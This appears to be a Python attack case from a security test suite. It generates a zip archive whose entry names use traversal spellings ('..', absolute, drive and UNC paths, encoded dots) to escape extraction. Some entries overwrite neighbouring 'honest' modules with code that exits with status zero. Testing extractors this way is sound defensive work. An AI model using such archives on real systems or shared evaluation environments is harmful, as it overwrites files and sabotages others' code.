"""Hand in a zip whose names lead out: "..", absolute paths, drives, backslashes, and the same in other spellings.

Success: a file is written outside, or the neighbour's module is replaced.
"""
# tried on every level

import zipfile
from pathlib import Path

NAMES = (
    "../attack-was-here",
    "../../attack-was-here",
    "/tmp/attack-was-here",
    "../000-honest/schedules.py",
    "../002-honest/schedules.py",
    "x/../../002-honest/loss.py",
    "..\\002-honest\\schedules.py",
    "C:\\attack-was-here",
    "\\\\host\\share\\attack-was-here",
    "./../schedules.py",
    "/schedules.py",
    "..//..//attack-was-here",
    "~/attack-was-here",
    "schedules.py/../../attack-was-here",
    "\u2025/attack-was-here",
    "%2e%2e/attack-was-here",
)


def make(path: Path) -> None:
    with zipfile.ZipFile(path.with_name(path.name + ".zip"), "w") as archive:
        for name in NAMES:
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            archive.writestr(entry, b"raise SystemExit(0)  # attack-was-here\n")
